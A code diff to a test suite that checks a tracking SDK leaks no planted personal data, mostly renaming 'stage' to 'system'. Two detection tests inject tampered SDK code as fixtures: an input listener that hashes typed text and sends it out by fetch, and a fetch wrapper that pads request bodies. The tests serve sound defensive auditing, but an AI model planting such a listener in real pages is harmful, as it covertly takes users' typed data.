@@ -3,10 +3,10 @@ import { describe, expect, test } from "vitest";
 import { alteredSdk, precededBy } from "./altered-sdk.ts";
 import { escapedCanaries } from "./canary-watch.ts";
 import { AGREED, compareLedger } from "./ledger-comparison.ts";
-import { useStage } from "./stage.ts";
+import { useTestSystem } from "./test-system.ts";
 import type { Visitor } from "./visitor.ts";
 
-const stage = useStage();
+const system = useTestSystem();
 const [name, otherName] = CANARIES.names;
 const [email, otherEmail, thirdEmail] = CANARIES.emails;
 const [phone, , londonPhone] = CANARIES.phones;
@@ -14,7 +14,7 @@ const [loyalty] = CANARIES.loyalty;
 const [secretUrl, utm] = CANARIES.urls;
 const [typed, address] = CANARIES.typedText;
 
-/** Lives a visit in which every place that a site puts words in holds a planted value. */
+/** Makes a visit with a canary in every place where a site can put text. */
 async function plantEverywhere(visitor: Visitor): Promise<void> {
   const { page } = visitor;
   await visitor.arrive("Accept all", `/?${utm}=1#${encodeURIComponent(name)}`);
@@ -60,7 +60,7 @@ async function plantEverywhere(visitor: Visitor): Promise<void> {
   await page.getByRole("button", { name: "Order" }).click();
   await page.waitForURL(/confirmation/);
   expect(await visitor.signIn({ email, phone, loyalty })).toContain("3 identifiers");
-  // Somebody else at the same device.
+  // Another person on the same device.
   expect(await visitor.signIn({ email: otherEmail, phone: londonPhone })).toMatch(/^Linked/);
   await visitor.classify();
   await visitor.cluster();
@@ -68,53 +68,55 @@ async function plantEverywhere(visitor: Visitor): Promise<void> {
 }
 
 describe("canaries", () => {
-  test("planted in fields, searches, addresses, titles, products, errors and sign-ins leave in no byte, in no encoding", async () => {
-    const visitor = await stage.visitor();
+  test("planted in fields, searches, addresses, titles, products, errors and sign-ins never leave, in any encoding", async () => {
+    const visitor = await system.visitor();
     await plantEverywhere(visitor);
-    const toEdge = stage.tap.to(stage.operators.edgeUrl).map(({ method, url }) => `${method} ${new URL(url).pathname}`);
+    const toEdge = system.tap
+      .to(system.operators.edgeUrl)
+      .map(({ method, url }) => `${method} ${new URL(url).pathname}`);
     for (const route of ["prf", "profile/links", "profile/assignments", "profile/exports"]) {
       expect(toEdge).toContain(`POST /v1/sites/demo/${route}`);
     }
-    expect(escapedCanaries(stage.tap.requests, stage.shopUrl)).toEqual([]);
-    // The search itself went to the shop with the words in it: the finder would have seen them.
-    const searches = stage.tap.requests.filter(({ url }) => url.startsWith(`${stage.shopUrl}/search`));
+    expect(escapedCanaries(system.tap.requests, system.shopUrl)).toEqual([]);
+    // The search itself went to the shop with the words in it, so the finder can detect them.
+    const searches = system.tap.requests.filter(({ url }) => url.startsWith(`${system.shopUrl}/search`));
     expect(searches.flatMap(({ raw }) => canaryFinder(canaries)(raw)).length).toBeGreaterThan(0);
     const ledger = Buffer.from(JSON.stringify(await visitor.ledger()));
     expect(canaryFinder(canaries)(ledger)).toEqual([]);
   });
 });
 
-describe("a product that breaks its promise is caught", () => {
-  test("a hash of what is typed, sent beside everything else", async () => {
-    const { edgeUrl } = stage.operators;
+describe("detects an SDK that breaks the promise", () => {
+  test("by sending a hash of typed text", async () => {
+    const { edgeUrl } = system.operators;
     const leak = precededBy(`
       addEventListener("input", async ({ target }) => {
         const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(target.value.toLowerCase()));
         const text = btoa(String.fromCharCode(...new Uint8Array(digest)));
         fetch("${edgeUrl}/v1/sites/demo/manifest?visitor=" + encodeURIComponent(text).replaceAll("%", "")).catch(() => 0);
       });`);
-    const site = await stage.otherShop({ sedgeFolder: alteredSdk("sdk.js", leak) });
-    const visitor = await stage.visitor({ site });
+    const site = await system.otherShop({ sedgeFolder: alteredSdk("sdk.js", leak) });
+    const visitor = await system.visitor({ site });
     await visitor.arrive("Accept all", "/checkout");
     await visitor.page.locator("#email").fill(email);
     await expect
-      .poll(() => escapedCanaries(stage.tap.requests, site))
+      .poll(() => escapedCanaries(system.tap.requests, site))
       .toEqual([expect.stringMatching(/^email as base64 of sha256 in GET/)]);
     await expect
-      .poll(async () => compareLedger(await visitor.ledger(), stage.tap.requests, edgeUrl).onlyOnNetwork.length)
+      .poll(async () => compareLedger(await visitor.ledger(), system.tap.requests, edgeUrl).onlyOnNetwork.length)
       .toBe(1);
   });
 
-  test("one byte more on the network than in the ledger", async () => {
+  test("by sending one byte more than the ledger records", async () => {
     const swell = precededBy(`
       const honest = fetch;
       globalThis.fetch = (url, init) => honest(url, init?.body ? { ...init, body: init.body + " " } : init);`);
-    const site = await stage.otherShop({ sedgeFolder: alteredSdk("worker.js", swell) });
-    const visitor = await stage.visitor({ site });
+    const site = await system.otherShop({ sedgeFolder: alteredSdk("worker.js", swell) });
+    const visitor = await system.visitor({ site });
     await visitor.arrive("Accept all");
     await visitor.seeProduct(2);
     expect(await visitor.cluster()).toMatchObject({ source: "edge" });
-    const difference = async () => compareLedger(await visitor.ledger(), stage.tap.requests, stage.operators.edgeUrl);
+    const difference = async () => compareLedger(await visitor.ledger(), system.tap.requests, system.operators.edgeUrl);
     await expect
       .poll(async () => {
         const { onlyInLedger, onlyOnNetwork } = await difference();
